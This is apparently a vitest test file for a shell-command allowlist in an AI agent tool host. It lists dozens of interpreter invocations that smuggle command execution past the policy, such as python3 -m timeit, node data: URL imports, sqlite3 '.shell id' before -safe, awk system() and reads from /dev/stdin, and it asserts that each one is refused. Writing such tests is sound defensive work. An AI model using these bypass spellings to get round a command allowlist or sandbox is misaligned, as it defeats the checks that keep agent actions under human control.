/**
 * Issue 32 item 7: command lines that ran `id` through interpreters on the allowlist,
 * each because the policy guessed at the interpreter's options instead of reading its
 * grammar. Every line here is the attack as it got through, plus the neighbours of the
 * same class (other spellings, other interpreters), then the lines that must keep working.
 */
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { checkCommand } from "../../src/toolhost/shell/command-policy.js";
import { giveToAgent, realClient, realWorkspace, type RealWorkspace } from "../helpers/real-toolhost.js";

const allowed = new Set([
  "awk",
  "gawk",
  "mawk",
  "python3",
  "node",
  "sqlite3",
  "perl",
  "ruby",
  "php",
  "lua",
  "Rscript",
  "bun",
  "echo",
]);

function refusal(line: string): string {
  const verdict = checkCommand(line, allowed);
  expect(verdict.allowed, `${line} must be refused`).toBe(false);
  return verdict.allowed ? "" : verdict.reason;
}

describe("issue 32 item 7: the nine lines that ran id", () => {
  it.each([
    // -W takes a value: "interactive" is not the program, the next word is.
    [`awk -W interactive 'BEGIN{system("id")}'`, /^awk: system\(\) runs a command/],
    // mawk's -W exec FILE is -f.
    ["awk -W exec prog.awk", /^awk -W exec loads a program .* from a file/],
    ["awk -Wexec prog.awk", /^awk -W exec loads a program .* from a file/],
    // -W and -X take a value; the value is not the script, -c after it is still an option.
    [`python3 -W ignore -c '__import__("os").system("id")'`, /^python3 -c runs code given on the command line/],
    [`python3 -X importtime -c '__import__("os").system("id")'`, /^python3 -c runs code given on the command line/],
    // Modules that run code from their command line.
    [
      `python3 -m timeit "__import__('os').system('id')"`,
      /^python3 -m timeit is not one of the modules that read only data/,
    ],
    [`python3 -m pdb -c '!__import__("os").system("id")' x.py`, /^python3 -m pdb is not one of the modules/],
    // A script that is the interpreter's input.
    [
      `echo '__import__("os").system("id")' | python3 /dev/stdin`,
      /^python3 would read its script from \/dev\/stdin, which is its input/,
    ],
    // URL schemes are case-insensitive.
    [
      `node --import 'DATA:text/javascript,import("child_process").then((m) => m.execSync("id"))' x.js`,
      /^node --import data: URL runs code given on the command line/,
    ],
    // -cmd runs at once, before a later -safe.
    [
      "sqlite3 -cmd '.shell id' -safe :memory:",
      /^sqlite3 -cmd runs its command before a later -safe takes effect; put -safe first/,
    ],
  ])("refuses %s", (line, reason) => {
    expect(refusal(line)).toMatch(reason);
  });
});

describe("the same classes, other spellings", () => {
  it.each([
    // python: letters combine, and the values of -W/-X/-m may be attached.
    ["python3 -Wignore -bb -IEc 'x'", /^python3 -c runs code/],
    ["python3 -Xdev -c 'x'", /^python3 -c runs code/],
    // unittest calls any callable it is named: timeit.main then runs its arguments as code.
    [
      `python3 -m unittest "__import__('os').system('id')" timeit.main`,
      /^python3 -m unittest is not one of the modules/,
    ],
    ["python3 -Im code", /^python3 -m code is not one of the modules/],
    ["python3 -mrunpy x", /^python3 -m runpy is not one of the modules/],
    ["python3 -i x.py", /^python3 -i runs code read from its input after the script/],
    ["python3 /proc/self/fd/0", /would read its script from \/proc\/self\/fd\/0/],
    ["python3 /dev/fd/0", /would read its script from \/dev\/fd\/0/],
    ["python3 ../../../../../../dev/stdin", /would read its script from \.\.\/.*dev\/stdin/],
    ["python3 -Z x.py", /^python3 -Z is not an option this allowlist knows/],
    // node: what the URL parser reads as data:, value options that hid -e, underscores, the REPL, the inspector.
    ["node --import ' data:text/javascript,1' x.js", /^node --import data: URL/],
    ["node --import=data:text/javascript,1 x.js", /^node --import data: URL/],
    ["node --experimental_loader DaTa:text/javascript,1 x.js", /^node --experimental-loader data: URL/],
    ["node --require http://x/y.js x.js", /^node --require http: URL loads code that is not a file/],
    [
      'node --title x.js -e \'require("child_process").execSync("id")\'',
      /^node -e runs code given on the command line/,
    ],
    ["node -r /dev/stdin x.js", /^node would read the -r module from \/dev\/stdin/],
    ["node --import file:///dev/stdin x.js", /^node would read the --import module from \/dev\/stdin/],
    ["node --env-file=/dev/stdin x.js", /^node would read --env-file's file from \/dev\/stdin/],
    ["node -i", /^node -i starts the REPL/],
    ["node --inspect=0.0.0.0:9229 x.js", /^node --inspect=0.0.0.0:9229 opens the inspector/],
    ["node inspect x.js", /^node inspect starts the debugger/],
    ["node --frobnicate x.js", /^node --frobnicate is not an option this allowlist knows/],
    // sqlite3: an option taken as another's value, the nonce, the init file, abbreviated dot-commands.
    ["sqlite3 -separator -safe -cmd '.shell id' :memory:", /^sqlite3 -separator's value -safe looks like an option/],
    [
      "sqlite3 -safe -nonce x :memory: '.nonce x' '.shell id'",
      /^sqlite3 -nonce sets the nonce that lets a command through safe mode/,
    ],
    ["sqlite3 -init /dev/stdin -safe :memory:", /^sqlite3 -init reads commands from a file before -safe takes effect/],
    ["sqlite3 -safe -cmd '.sh id' :memory:", /^sqlite3: \.sh runs a program/],
    ["sqlite3 -safe :memory: '.once |id'", /^sqlite3: \.once with \| pipes to or from a program/],
    // awk: -W names cut short, long options cut short, comma lists, the debugger, letters combined with f.
    ["awk -W e prog.awk", /^awk -W e \(it could mean -W exec\) loads a program/],
    ["mawk -W interactive,exec prog.awk", /^mawk -W exec loads a program/],
    ["awk --exe=prog.awk", /^awk --exe=prog.awk loads a program/],
    [`awk --so='BEGIN { system("id") }'`, /^awk: system\(\) runs a command/],
    ["awk -D 'BEGIN { }'", /^awk -D starts the debugger/],
    // gawk's indirect calls call a function named by a string.
    [`gawk 'BEGIN { f = "system"; @f("id") }'`, /^gawk: an indirect call \(@name\(\.\.\.\)\)/],
    // A backslash-newline continues the line; `i++ / 2` divides, it does not open a regex that hides the pipe.
    [`awk 'BEGIN { system\\\n("id") }'`, /^awk: system\(\) runs a command/],
    [`awk 'BEGIN { i = 4; x = i++ / 2; print "id" | "sh"; y = 1 / 1 }'`, /^awk: a \| in the program pipes/],
    // The other interpreters: an option's value read as the script hid -e.
    ["perl -I lib -e 'system(\"id\")'", /^perl -e runs code/],
    ["perl -d x.pl", /^perl -d starts the debugger/],
    ["ruby -I lib -e 'system(\"id\")'", /^ruby -e runs code/],
    ["ruby -r /dev/stdin x.rb", /^ruby would read the -r library from \/dev\/stdin/],
    ["php -d auto_prepend_file=/dev/stdin x.php", /^php -d auto_prepend_file: only memory_limit/],
    ["php -f /dev/stdin", /^php would read its script from \/dev\/stdin/],
    ["Rscript --debugger=id x.R", /^Rscript --debugger runs the program it names/],
    ["bun exec id", /^bun exec runs packages, commands or code/],
  ])("refuses %j", (line, reason) => {
    expect(refusal(line)).toMatch(reason);
  });
});

describe("what must keep working", () => {
  it.each([
    "python3 script.py",
    "python3 -W ignore script.py",
    "python3 -Wignore -bb -IE script.py a -c b",
    "python3 -X importtime script.py",
    "python3 -m json.tool x.json",
    "python3 -Im json.tool x.json",
    "python3 -- -dashed.py",
    "python3 --version",
    "awk '{print $1}' f",
    "awk -F, -v x=1 '{ print x }' f",
    "mawk -W interactive '{ print }' f",
    "gawk '@namespace \"x\"; BEGIN { print 1 }'",
    "sqlite3 -safe db 'select 1'",
    "sqlite3 -safe -cmd 'pragma foreign_keys=on' db 'select 1'",
    "sqlite3 db -safe .tables",
    "node script.js",
    "node --max-old-space-size=4096 --no-warnings --enable-source-maps --import tsx script.ts",
    "node --import ./loader.mjs --require node:util script.js",
    "node --test",
    "perl -Ilib -i.bak -p x.pl f",
    "ruby -rjson x.rb",
    "php -d memory_limit=1G x.php",
    "bun run x.ts",
  ])("allows %j", (line) => {
    expect(checkCommand(line, allowed)).toMatchObject({ allowed: true });
  });

  it("python3 -c stays refused, naming the option", () => {
    expect(refusal("python3 -c 'print(1)'")).toMatch(/^python3 -c runs code given on the command line/);
  });
});

describe("through the real shell tool: the attack never runs", () => {
  let workspace: RealWorkspace;
  beforeAll(async () => {
    workspace = await realWorkspace({
      TOOLHOST_SANDBOX: "none-unsafe",
      TOOLHOST_UID_BASE: "51000",
      ALLOWED_COMMANDS: "python3,sqlite3,awk,echo",
      SHELL_TIMEOUT_MS: "10000",
    });
  });

  it.each([
    `python3 -m timeit -n 1 "__import__('os').system('id')"`,
    "sqlite3 -cmd '.shell id' -safe :memory:",
    `awk -W interactive 'BEGIN { system("id") }'`,
  ])("%s is refused before anything runs", async (command) => {
    const { client } = realClient(workspace, "a");
    const cwd = join(workspace.layout.agentTrees("a").workTree, "chat");
    mkdirSync(cwd, { recursive: true });
    giveToAgent(workspace, "a", cwd);
    const result = await client.callTool({ name: "shell.exec", args: { command }, cwd });
    expect(result).toMatchObject({ ok: false, error: { code: "COMMAND_NOT_ALLOWED" } });
    expect(JSON.stringify(result)).not.toMatch(/uid=\d+/);
    // The same interpreter, used as allowed, runs: the refusal is the policy's, not a broken tool.
    const allowedRun = await client.callTool({
      name: "shell.exec",
      args: { command: "sqlite3 -safe :memory: 'select 40 + 2'" },
      cwd,
    });
    expect(allowedRun).toMatchObject({ ok: true, output: "42\n" });
  });
});
